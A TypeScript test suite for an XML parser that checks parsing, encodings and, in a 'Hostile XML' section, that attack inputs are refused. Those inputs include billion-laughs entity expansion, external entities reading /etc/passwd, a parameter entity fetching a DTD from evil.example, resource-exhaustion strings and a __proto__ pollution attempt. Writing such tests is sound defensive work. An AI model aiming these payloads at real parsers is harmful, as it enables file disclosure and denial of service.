import { describe, expect, it, test } from 'vitest';
import { parseXml } from '../../../studio/xml/parse-xml.ts';
import { attribute, child, children, descendants, textOf, XmlError } from '../../../studio/xml/xml-node.ts';

const parse = (source: string | Uint8Array) => parseXml(source, { file: 'x.xml' });

function failure(source: string | Uint8Array): XmlError {
  try {
    parse(source);
  } catch (error) {
    if (error instanceof XmlError) return error;
    throw error;
  }
  throw new Error('nothing was wrong');
}

const utf16 = (text: string, mark: boolean): Uint8Array => Buffer.from(`${mark ? '\uFEFF' : ''}${text}`, 'utf16le');
const swapped = (bytes: Uint8Array): Uint8Array => Buffer.from(bytes).swap16();

describe('An XML file', () => {
  it('is elements with local names, prefixes, attributes and lines', () => {
    const root = parse(
      '<?xml version="1.0"?>\r\n<!-- c -->\r\n<m:a id="1" xml:lang="fr">\r\n <b/>\n<b>x</b>\n<c><b>y</b></c></m:a>\n',
    );
    expect(root).toMatchObject({ name: 'a', prefix: 'm', line: 3 });
    expect(root.attributes).toEqual({ id: '1', 'xml:lang': 'fr' });
    expect([attribute(root, 'id'), attribute(root, 'lang'), attribute(root, 'none')]).toEqual(['1', 'fr', undefined]);
    expect(children(root).map(({ name, line }) => `${name}${line}`)).toEqual(['b4', 'b5', 'c6']);
    expect(descendants(root, 'b').map(textOf)).toEqual(['', 'x', 'y']);
    expect(textOf(child(child(root, 'c'), 'b'))).toBe('y');
    expect(child(root, 'none')).toBeUndefined();
  });

  it('keeps text, spaces, CDATA and the entities that XML has', () => {
    const root = parse('<a t="&quot;&#x41;&apos;"> &lt;p&gt; &#233;<![CDATA[<p>&amp;]] ></p>]]> &amp;amp;</a>');
    expect(textOf(root)).toBe(' <p> é<p>&amp;]] ></p> &amp;');
    expect(root.attributes.t).toBe('"A\'');
  });

  it('may name a document type, which is never fetched', () => {
    expect(parse('<!DOCTYPE a SYSTEM "file:///etc/passwd">\n<a/>').line).toBe(2);
    expect(parse('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd"><a/>').name).toBe('a');
  });

  it('may hold a page in CDATA, document type and all', () => {
    expect(textOf(parse('<a><![CDATA[<!DOCTYPE html [<!ENTITY x "y">]>]]></a>'))).toBe(
      '<!DOCTYPE html [<!ENTITY x "y">]>',
    );
  });

  it.each([
    ['UTF-8', Buffer.from('<a>é</a>')],
    ['UTF-8 with a mark', Buffer.from('\uFEFF<a>é</a>')],
    ['UTF-16 with a mark', utf16('<?xml version="1.0" encoding="UTF-16"?><a>é</a>', true)],
    ['UTF-16 of the other order', swapped(utf16('<a>é</a>', true))],
    ['UTF-16 without a mark', utf16('<?xml version="1.0" encoding="UTF-16"?><a>é</a>', false)],
    ['Latin 1, declared', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>', 'latin1')],
  ])('is read in its encoding: %s', (_, bytes) => {
    expect(textOf(parse(bytes))).toBe('é');
  });

  it.each([
    ['bytes that are no UTF-8', Buffer.from('<a>é</a>', 'latin1'), 'not valid utf-8'],
    [
      'UTF-16 declared, something else written',
      Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>'),
      'not written so',
    ],
    ['an encoding nobody knows', Buffer.from('<?xml version="1.0" encoding="x-none"?><a/>'), 'not known'],
    ['half a character of UTF-16', utf16('<a/>', true).subarray(0, -1), 'not valid utf-16le'],
  ])('is refused for %s, by the name of the file', (_, bytes, message) => {
    expect(failure(bytes)).toMatchObject({ file: 'x.xml', message: expect.stringContaining(message) });
  });
});

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`).join('')}]>`;

describe('Hostile XML', () => {
  test.each([
    ['a billion laughs', `${LAUGHS}<lolz>&lol9;</lolz>`],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
    ['an empty subset', '<!DOCTYPE a []><a/>'],
    ['a subset behind an identifier', '<!DOCTYPE a SYSTEM "x" [<!ENTITY y "z">]><a>&y;</a>'],
    ['a declaration inside', '<a><!ENTITY x "y">&x;</a>'],
    ['a document type inside', '<a><!DOCTYPE a></a>'],
    ['a second document type', '<!DOCTYPE a><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'],
    ['a small document type', '<!doctype a [<!ENTITY x "y">]><a>&x;</a>'],
  ])('declares nothing: %s', (_, text) => {
    expect(failure(text).message).toContain('not read');
  });

  test.each(['&x;', '&nbsp;', '&#0;', '&#xD800;', '&#x110000;', '&#99999999;', '&#x0b;'])(
    'knows no entity %s',
    (entity) => {
      expect(failure(`<a>${entity}</a>`).message).toContain('not known');
      expect(failure(`<a b="${entity}"/>`).message).toContain('not known');
    },
  );

  test.each([
    ['100,000 levels', '<a>'.repeat(100_000), '256 deep'],
    ['a million attributes', `<a ${Array.from({ length: 1_000_000 }, (_, n) => `a${n}=""`).join(' ')}/>`, 'attributes'],
    ['attributes everywhere', `<a>${'<b c="" d=""/>'.repeat(130_000)}</a>`, 'attributes'],
    ['a million elements', `<a>${'<b/>'.repeat(1_000_000)}</a>`, 'tags'],
    ['a million comments', `<a>${'<!---->'.repeat(1_000_000)}</a>`, 'tags'],
    ['one endless text', `<a>${'x'.repeat(3_000_000)}</a>`, 'a text of more'],
    ['one endless instruction', `<a><?x ${'y '.repeat(5000)}?></a>`, 'instruction'],
    ['too much of everything', ' '.repeat(17 * 1024 * 1024), 'characters'],
    ['quotes that never close', '<a b="'.repeat(500_000), 'never closed'],
    ['tags that never close', '<a '.repeat(500_000), 'never closed'],
    ['comments that never close', `<a>${'<!-- '.repeat(500_000)}`, 'never closed'],
  ])('is refused before anything of it is built: %s', (_, text, message) => {
    expect(failure(text).message).toContain(message);
  });

  test.each([
    ['<a>'],
    ['<a></b>'],
    ['</a>'],
    ['<a/><b/>'],
    ['<a/>words'],
    ['words'],
    [''],
    ['<a b=c/>'],
    ['<a b="1" b="2"/>'],
    ['<a b/>'],
    ['<a>&</a>'],
    ['<a>\u0000</a>'],
    ['<a>\uFFFF</a>'],
  ])('is refused when it is not well-formed: %j', (text) => {
    expect(failure(text)).toBeInstanceOf(XmlError);
  });

  it('tells the line of the mistake', () => {
    expect(failure('<a>\n<b>\n</c>\n</a>').line).toBe(3);
    expect(failure('<a>\n<b\n').line).toBe(2);
  });

  it('cannot reach the prototype of anything', () => {
    expect(failure('<__proto__ polluted="1"/>')).toBeInstanceOf(XmlError);
    expect(parse('<a hasOwnProperty="1" toString="2"/>').attributes.polluted).toBeUndefined();
    expect('polluted' in {}).toBe(false);
  });

  it('is quick with a manifest of thousands of items', () => {
    const items = Array.from({ length: 5000 }, (_, n) => `<item identifier="i${n}"><title>Item ${n}</title></item>`);
    const root = parse(`<manifest><organization>${items.join('\n')}</organization></manifest>`);
    expect(descendants(root, 'item').at(-1)).toMatchObject({ line: 5000, attributes: { identifier: 'i4999' } });
  });
});
